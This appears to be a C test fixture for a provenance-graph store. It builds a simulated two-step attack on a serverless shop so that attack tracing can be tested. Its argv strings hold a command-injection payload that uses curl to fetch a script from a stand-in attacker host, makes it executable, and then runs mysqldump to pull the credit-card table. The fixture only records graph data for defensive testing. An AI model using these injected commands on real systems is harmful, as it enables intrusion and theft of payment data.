#include "query/tests/attack.h"

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "base/text.h"

#define BOOT "5b1d"

/* --- the language --------------------------------------------------------- */

void world_begin(struct world *world, const char *path)
{
	char error[256] = "";

	*world = (struct world){0};
	if (fp_store_open(path, FP_STORE_CREATE, &world->store, error) < 0)
		fail_msg("%s", error);
	assert_int_equal(fp_store_graph_begin(world->store), 0);
}

void world_end(struct world *world)
{
	assert_int_equal(fp_store_graph_commit(world->store, world->batch), 0);
	world->store = fp_store_close(world->store);
}

uint64_t world_node(struct world *world, const struct fp_store_node *row)
{
	struct fp_store_node copy = *row;

	copy.id = ++world->nodes;
	assert_int_equal(fp_store_graph_put_node(world->store, &copy), 0);
	return copy.id;
}

void world_edge(struct world *world, const struct fp_store_edge *row)
{
	struct fp_store_edge copy = *row;

	copy.id = ++world->edges;
	assert_int_equal(fp_store_graph_put_edge(world->store, &copy), 0);
}

uint64_t world_process(struct world *world, const struct place *place, const struct request *request, int pid, int exec,
		       const char *name, const char *argv, uint64_t first, uint64_t last)
{
	char key[200], unit[33] = "start-up", attributes[400];
	struct fp_store_node row = {
		.kind = FP_NODE_PROCESS, .key = key, .label = name, .function = place->function, .instance = place->instance,
		.host = place->host, .has_request = request != NULL, .unit = request ? FP_UNIT_REQUEST : FP_UNIT_STARTUP,
		.first = first, .last = last, .attributes = attributes};

	if (request) {
		memcpy(row.request, request->id, sizeof(row.request));
		fp_hex(request->id, sizeof(request->id), unit);
	}
	snprintf(key, sizeof(key), "process:%s:" BOOT ":1000:%d:%d:%s", place->host, pid, exec, unit);
	snprintf(attributes, sizeof(attributes), "{\"pid\":%d,\"argv\":\"%s\"}", pid, argv);
	return world_node(world, &row);
}

uint64_t world_file(struct world *world, const struct place *place, const char *path)
{
	char key[64];
	struct fp_store_node row = {.kind = FP_NODE_FILE, .key = key, .label = path, .function = place->function,
				    .instance = place->instance, .host = place->host, .first = T0, .last = T0};

	snprintf(key, sizeof(key), "file:%s:" BOOT ":41:%u:1", place->host, (unsigned)world->nodes);
	return world_node(world, &row);
}

uint64_t world_object(struct world *world, const char *name)
{
	char key[200];
	struct fp_store_node row = {.kind = FP_NODE_OBJECT, .key = key, .label = name, .first = T0, .last = T0};

	snprintf(key, sizeof(key), "object:%s", name);
	return world_node(world, &row);
}

uint64_t world_host(struct world *world, const char *endpoint)
{
	char key[100];
	struct fp_store_node row = {.kind = FP_NODE_HOST, .key = key, .label = endpoint, .first = T0, .last = T0};

	snprintf(key, sizeof(key), "host:%s", endpoint);
	return world_node(world, &row);
}

void world_do(struct world *world, const struct request *request, enum fp_edge_kind kind, uint64_t from, uint64_t to,
	      uint64_t at, uint64_t bytes)
{
	struct fp_store_edge row = {.from = from, .to = to, .kind = kind, .first = at, .last = at + MS / 2, .count = 1,
				    .bytes = bytes, .has_request = request != NULL,
				    .attribution = request ? FP_ATTRIBUTION_EXACT : FP_ATTRIBUTION_NONE,
				    .rule = request ? FP_RULE_CHILD : FP_RULE_NONE};

	if (request)
		memcpy(row.request, request->id, sizeof(row.request));
	world_edge(world, &row);
}

static void calls(struct world *world, const struct request *request, enum fp_edge_kind kind, uint64_t from, uint64_t to,
		  uint64_t at)
{
	struct fp_store_edge row = {.from = from, .to = to, .kind = kind, .first = at, .last = at, .count = 1,
				    .has_request = true, .attribution = FP_ATTRIBUTION_EXACT, .rule = FP_RULE_MARK};

	memcpy(row.request, request->id, sizeof(row.request));
	world_edge(world, &row);
}

void world_request(struct world *world, struct request *request, unsigned number, const struct place *place,
		   const char *call_id, const struct request *parent, uint64_t caller, uint64_t first, uint64_t last)
{
	char hex[33], key[100], label[100];
	struct fp_store_node row = {.kind = FP_NODE_REQUEST, .key = key, .label = label, .function = place->function,
				    .instance = place->instance, .host = place->host, .has_request = true, .first = first,
				    .last = last};
	struct fp_store_request request_row = {.call_id = call_id, .function = place->function,
					       .instance = place->instance, .host = place->host, .method = "POST", .url = "/",
					       .first = first, .last = last, .status = 200, .has_parent = parent != NULL,
					       .join = parent ? "forwarded-address" : NULL};

	*request = (struct request){.first = first, .last = last, .place = *place};
	for (size_t i = 0; i < sizeof(request->id); i++)
		request->id[i] = (uint8_t)((number * 2654435761u) >> (8 * (i % 4))) ^ (uint8_t)(i * 37);
	fp_hex(request->id, sizeof(request->id), hex);
	snprintf(key, sizeof(key), "request:%s", hex);
	snprintf(label, sizeof(label), "%s POST /", place->function);
	memcpy(row.request, request->id, sizeof(row.request));
	memcpy(request_row.id, request->id, sizeof(row.request));
	if (parent)
		memcpy(request_row.parent, parent->id, sizeof(parent->id));
	request->node = request_row.node = world_node(world, &row);
	if (!parent) {
		struct fp_store_node client = {.kind = FP_NODE_CLIENT, .key = key, .label = "client 198.18.0.66",
					       .has_request = true, .first = first, .last = last};

		snprintf(key, sizeof(key), "client:198.18.0.66:%s", hex);
		memcpy(client.request, request->id, sizeof(client.request));
		caller = world_node(world, &client);
	}
	calls(world, request, FP_EDGE_CALLS, caller, request->node, first);
	calls(world, request, FP_EDGE_RETURNS, request->node, caller, last);
	assert_int_equal(fp_store_graph_put_request(world->store, &request_row), 0);
}

/* --- the story ------------------------------------------------------------ */

static const struct place purchase = {"product-purchase", "product-purchase-1", "node-1"};
static const struct place price = {"product-purchase-get-price", "product-purchase-get-price-1", "node-2"};
static const struct place card = {"product-purchase-authorize-cc", "product-purchase-authorize-cc-1", "node-2"};
static const struct place publish = {"product-purchase-publish", "product-purchase-publish-1", "node-1"};

#define N_LIBRARIES 34

struct shop {
	struct world world;
	uint64_t sql_price, sql_cards, database, attacker, url;
	uint64_t libraries[N_LIBRARIES], dash, curl, chmod, dump, passwd, resolv, script;
	unsigned requests;
};

/* One program's own libraries. */
static void load(struct shop *shop, const struct request *request, uint64_t process, uint64_t program, unsigned libraries,
		 uint64_t at)
{
	world_do(&shop->world, request, FP_EDGE_LOAD, program, process, at, 0);
	for (unsigned i = 0; i < libraries; i++) {
		world_do(&shop->world, request, FP_EDGE_READ, shop->libraries[i], process, at + (i + 1) * MS / 10, 832);
		world_do(&shop->world, request, FP_EDGE_LOAD, shop->libraries[i], process, at + (i + 1) * MS / 10, 0);
	}
}

/* Fork and exec: the child before and after. */
static uint64_t spawn(struct shop *shop, const struct request *request, uint64_t parent, const char *parent_name, int pid,
		      const char *name, const char *argv, uint64_t program, unsigned libraries, uint64_t at)
{
	struct world *world = &shop->world;
	uint64_t before = world_process(world, &card, request, pid, 0, parent_name, parent_name, at, at + MS);
	uint64_t after = world_process(world, &card, request, pid, 1, name, argv, at + MS, at + 40 * MS);

	world_do(world, request, FP_EDGE_FORK, parent, before, at, 0);
	world_do(world, request, FP_EDGE_EXEC, before, after, at + MS, 0);
	load(shop, request, after, program, libraries, at + MS);
	return after;
}

/* A connection to a peer that nobody records, used in both directions. */
static void talk(struct world *world, const struct request *request, const struct place *place, uint64_t process,
		 uint64_t host, const char *name, uint64_t sent, uint64_t received, uint64_t at)
{
	for (int way = 0; way < 2; way++) {
		char key[120], hex[33];
		struct fp_store_node row = {.kind = FP_NODE_SOCKET, .key = key, .label = name, .function = place->function,
					    .instance = place->instance, .host = place->host, .has_request = true, .first = at,
					    .last = at + 5 * MS};
		uint64_t socket;

		fp_hex(request->id, sizeof(request->id), hex);
		snprintf(key, sizeof(key), "socket:6:%s:%d:%s", name, way, hex);
		memcpy(row.request, request->id, sizeof(row.request));
		socket = world_node(world, &row);
		world_do(world, request, FP_EDGE_SEND, way ? host : process, socket, at + (unsigned)way * 3 * MS,
			 way ? received : sent);
		world_do(world, request, way ? FP_EDGE_RECEIVE : FP_EDGE_SEND, socket, way ? process : host,
			 at + (unsigned)way * 3 * MS + MS, way ? received : sent);
	}
}

/* Serves a request in the warm process of its container. */
static uint64_t serve(struct shop *shop, struct request *request, const struct place *place, const char *call_id,
		      const struct request *parent, uint64_t caller, int pid, uint64_t first, uint64_t last)
{
	struct world *world = &shop->world;
	uint64_t process;

	world_request(world, request, ++shop->requests, place, call_id, parent, caller, first, last);
	process = world_process(world, place, request, pid, 1, "node", "node index.js", first, last);
	calls(world, request, FP_EDGE_CALLS, request->node, process, first + MS);
	calls(world, request, FP_EDGE_RETURNS, process, request->node, last - MS);
	return process;
}

static uint64_t make_pipe(struct shop *shop, const char *name)
{
	char key[80];
	struct fp_store_node row = {.kind = FP_NODE_PIPE, .key = key, .label = "pipe", .function = card.function,
				    .instance = card.instance, .host = card.host, .first = T0, .last = T0};

	snprintf(key, sizeof(key), "pipe:node-2:" BOOT ":13:%s:0", name);
	return world_node(&shop->world, &row);
}

/* Request A: curl fetches the script, chmod makes it executable. */
static void plant(struct shop *shop, const struct request *request, uint64_t node, uint64_t at)
{
	struct world *world = &shop->world;
	uint64_t sh = spawn(shop, request, node, "node", 4101, "sh",
			    "/bin/sh -c luhn 4111111111111111; curl -s -o /home/app/sqldump.sh http://198.18.9.9/sqldump.sh; "
			    "chmod 0777 /home/app/sqldump.sh",
			    shop->dash, 2, at);
	uint64_t curl = spawn(shop, request, sh, "sh", 4102, "curl",
			      "curl -s -o /home/app/sqldump.sh http://198.18.9.9/sqldump.sh", shop->curl, N_LIBRARIES,
			      at + 5 * MS);
	uint64_t chmod;

	world_do(world, request, FP_EDGE_READ, shop->resolv, curl, at + 12 * MS, 74);
	world_do(world, request, FP_EDGE_READ, shop->passwd, curl, at + 12 * MS, 900);
	world_do(world, request, FP_EDGE_CONNECT, curl, shop->attacker, at + 13 * MS, 0);
	talk(world, request, &card, curl, shop->attacker, "10.62.0.7:40312 → 198.18.9.9:80", 88, 1040, at + 14 * MS);
	world_do(world, request, FP_EDGE_GET, shop->attacker, shop->url, at + 17 * MS, 0);
	world_do(world, request, FP_EDGE_GET, shop->url, curl, at + 18 * MS, 812);
	world_do(world, request, FP_EDGE_WRITE, curl, shop->script, at + 20 * MS, 812);
	chmod = spawn(shop, request, sh, "sh", 4103, "chmod", "chmod 0777 /home/app/sqldump.sh", shop->chmod, 2,
		      at + 25 * MS);
	world_do(world, request, FP_EDGE_CHMOD, chmod, shop->script, at + 28 * MS, 0);
}

/* Request B: the script runs, the dump goes through the pipe into the answer. */
static void execute(struct shop *shop, const struct request *request, uint64_t node, uint64_t at)
{
	struct world *world = &shop->world;
	uint64_t pipe = make_pipe(shop, "8812");
	uint64_t sh = spawn(shop, request, node, "node", 4177, "sh",
			    "/bin/sh -c luhn 4111111111111111; /home/app/sqldump.sh", shop->dash, 2, at);
	uint64_t script = spawn(shop, request, sh, "sh", 4178, "sqldump.sh", "/bin/sh /home/app/sqldump.sh", shop->script, 0,
				at + 5 * MS);
	uint64_t dump;

	world_do(world, request, FP_EDGE_LOAD, shop->dash, script, at + 6 * MS, 0);
	world_do(world, request, FP_EDGE_READ, shop->script, script, at + 7 * MS, 812);
	dump = spawn(shop, request, script, "sqldump.sh", 4179, "mysqldump",
		     "mysqldump --no-defaults --single-transaction -h db -u shop helloRetail creditCards", shop->dump, 22,
		     at + 9 * MS);
	world_do(world, request, FP_EDGE_READ, shop->passwd, dump, at + 14 * MS, 900);
	world_do(world, request, FP_EDGE_CONNECT, dump, shop->database, at + 15 * MS, 0);
	talk(world, request, &card, dump, shop->database, "10.62.0.7:51022 → 10.62.0.2:3306", 640, 41200, at + 16 * MS);
	world_do(world, request, FP_EDGE_GET, shop->sql_cards, dump, at + 20 * MS, 0);
	world_do(world, request, FP_EDGE_WRITE, dump, pipe, at + 24 * MS, 38400);
	world_do(world, request, FP_EDGE_READ, pipe, node, at + 25 * MS, 38400);
}

/* One purchase; part: 0 benign, 1 A, 2 B. */
static void purchase_once(struct shop *shop, int part, uint64_t at)
{
	struct world *world = &shop->world;
	struct request buy, ask, check, tell;
	const char *names[] = {NULL, ATTACK_PLANT, ATTACK_EXECUTE};
	char call_id[40];
	uint64_t buyer, pricer, checker;

	snprintf(call_id, sizeof(call_id), "call-%u", shop->requests);
	buyer = serve(shop, &buy, &purchase, part ? names[part] : call_id, NULL, 0, 3011, at, at + 180 * MS);
	pricer = serve(shop, &ask, &price, call_id, &buy, buyer, 3055, at + 4 * MS, at + 20 * MS);
	world_do(world, &ask, FP_EDGE_GET, shop->sql_price, pricer, at + 10 * MS, 0);
	talk(world, &ask, &price, pricer, shop->database, "10.62.0.5:41200 → 10.62.0.2:3306", 64, 210, at + 7 * MS);
	checker = serve(shop, &check, &card, call_id, &buy, buyer, 3077, at + 5 * MS, at + 120 * MS);
	if (part == 1)
		plant(shop, &check, checker, at + 20 * MS);
	else if (part == 2)
		execute(shop, &check, checker, at + 20 * MS);
	else
		world_do(world, &check, FP_EDGE_GET, shop->sql_cards, checker, at + 30 * MS, 0);
	serve(shop, &tell, &publish, call_id, &buy, buyer, 3099, at + 130 * MS, at + 150 * MS);
}

void attack_store(const char *path)
{
	struct shop shop = {0};
	struct world *world = &shop.world;
	uint64_t at = T0;

	world_begin(world, path);
	shop.sql_price = world_object(world, "sql:productPrice");
	shop.sql_cards = world_object(world, "sql:creditCards");
	shop.url = world_object(world, "http://198.18.9.9/sqldump.sh");
	shop.database = world_host(world, "10.62.0.2:3306");
	shop.attacker = world_host(world, "198.18.9.9:80");
	for (unsigned i = 0; i < N_LIBRARIES; i++) {
		char name[64];

		snprintf(name, sizeof(name), "/usr/lib/x86_64-linux-gnu/lib%02u.so.%u", i, i % 7);
		shop.libraries[i] = world_file(world, &card, name);
	}
	shop.dash = world_file(world, &card, "/usr/bin/dash");
	shop.curl = world_file(world, &card, "/usr/bin/curl");
	shop.chmod = world_file(world, &card, "/usr/bin/chmod");
	shop.dump = world_file(world, &card, "/usr/bin/mysqldump");
	shop.passwd = world_file(world, &card, "/etc/passwd");
	shop.resolv = world_file(world, &card, "/etc/resolv.conf");
	shop.script = world_file(world, &card, "/home/app/sqldump.sh");
	for (int i = 0; i < ATTACK_BENIGN + 2; i++, at += 700 * MS)
		purchase_once(&shop, i == 8 ? 1 : i == 17 ? 2 : 0, at);
	world_end(world);
}
